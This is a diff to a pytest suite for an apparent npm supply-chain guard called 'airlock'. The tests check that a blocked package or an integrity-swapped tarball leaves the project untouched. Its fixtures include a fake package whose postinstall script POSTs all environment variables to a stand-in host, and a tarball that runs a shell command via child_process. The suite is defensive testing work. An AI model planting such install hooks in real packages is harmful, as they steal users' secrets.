@@ -4,15 +4,19 @@ the swap; and every way it must leave the project as it was."""
 from __future__ import annotations
 
 import json
+import shutil
 from pathlib import Path
 
 import pytest
 
 from airlock.check.project import CheckSettings
 from airlock.exit import ExitCode
-from airlock.install.ci import CiRequest, run_ci
+from airlock.install.ci import CiRequest, InstallRefusedError, run_ci
+from airlock.install.npm import npm_cache_dir
+from airlock.registry.cache import default_cache_dir
 from tests.fakes.registry import FakeRegistry
-from tests.install.projects import ONCE, WRAPPY, publish, tree_hash, write_project
+from tests.fakes.tarballs import build_package
+from tests.install.projects import ONCE, WRAPPY, Dep, publish, tree_hash, write_project
 
 pytestmark = pytest.mark.requires_node
 
@@ -37,9 +41,87 @@ def test_clean_project_installs_from_the_view_only(project: Path, fake_registry:
     assert outcome.install is not None
     assert outcome.install.installed == 2
     assert (project / "node_modules" / "once" / "index.js").is_file()
-    assert json.loads((project / "node_modules" / "wrappy" / "package.json").read_text())["version"] == "1.0.2"
+    assert (
+        json.loads((project / "node_modules" / "wrappy" / "package.json").read_text())["version"] == "1.0.2"
+    )
     # npm fetched both tarballs from the view; the fake registry saw only airlock's own client.
     assert outcome.install.view_served == 2
     agents = {r.headers.get("user-agent", "") for r in fake_registry.requests}
     assert agents and all(a.startswith("airlock/") for a in agents), agents
     assert not list(project.glob(".airlock-staging-*"))
+
+
+def _snapshot(root: Path) -> tuple[bytes, bytes, str]:
+    return (
+        (root / "package.json").read_bytes(),
+        (root / "package-lock.json").read_bytes(),
+        tree_hash(root / "node_modules"),
+    )
+
+
+EXFIL = Dep(
+    "env-helper",
+    "1.0.1",
+    {
+        "index.js": "module.exports = {}\n",
+        "install.js": (
+            "const https = require('https')\n"
+            "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/e', method: 'POST' })\n"
+            "req.end(JSON.stringify(process.env))\n"
+        ),
+    },
+    scripts={"postinstall": "node install.js"},
+)
+
+
+def test_blocked_package_changes_nothing(project: Path, fake_registry: FakeRegistry) -> None:
+    assert run_ci(_request(project)).exit_code is ExitCode.OK  # a previous node_modules to keep
+    publish(fake_registry, EXFIL)
+    write_project(project, fake_registry, [ONCE, WRAPPY, EXFIL], top=["once", "env-helper"])
+    before = _snapshot(project)
+    outcome = run_ci(_request(project))
+    assert outcome.exit_code is ExitCode.ACTION
+    assert outcome.stopped_by_check and not outcome.changed
+    blocked = [r for r in outcome.outcome.reports if r.verdict.value == "block"]
+    assert [r.name for r in blocked] == ["env-helper"]
+    assert _snapshot(project) == before
+    assert not (project / "node_modules" / "env-helper").exists()
+    assert not list(project.glob(".airlock-staging-*"))
+
+
+def test_integrity_swap_after_a_warm_check_is_never_installed(
+    project: Path, fake_registry: FakeRegistry
+) -> None:
+    assert run_ci(_request(project)).exit_code is ExitCode.OK  # analyses stored: the next check is warm
+    before = _snapshot(project)
+    # The warm check will not download wrappy again; the registry now serves other bytes for it (its
+    # document still names the checked integrity), and no cache holds the checked ones.
+    shutil.rmtree(default_cache_dir() / "tarballs")
+    shutil.rmtree(npm_cache_dir())
+    evil = build_package("wrappy", "1.0.2", {"index.js": "require('child_process').exec('id')\n"})
+    fake_registry.set_tarball("wrappy", "1.0.2", evil)
+    with pytest.raises(InstallRefusedError) as caught:
+        run_ci(_request(project))
+    assert caught.value.exit_code is ExitCode.ACTION
+    assert "wrappy@1.0.2" in caught.value.message and "nothing was changed" in caught.value.message
+    assert _snapshot(project) == before
+    assert not list(project.glob(".airlock-staging-*"))
+
+
+def test_existing_node_modules_is_exchanged_and_old_files_go(project: Path) -> None:
+    (project / "node_modules" / "left-over").mkdir(parents=True)
+    (project / "node_modules" / "left-over" / "x.js").write_text("old\n")
+    outcome = run_ci(_request(project))
+    assert outcome.install is not None
+    assert outcome.install.swapped.how == "exchange"
+    assert not (project / "node_modules" / "left-over").exists()
+    assert (project / "node_modules" / "once" / "index.js").is_file()
+
+
+def test_stale_staging_of_a_killed_run_is_removed(project: Path) -> None:
+    stale = project / ".airlock-staging-99999-deadbeef"
+    (stale / "node_modules" / "half").mkdir(parents=True)
+    outcome = run_ci(_request(project))
+    assert outcome.exit_code is ExitCode.OK
+    assert outcome.stale_removed == (stale,)
+    assert not stale.exists()
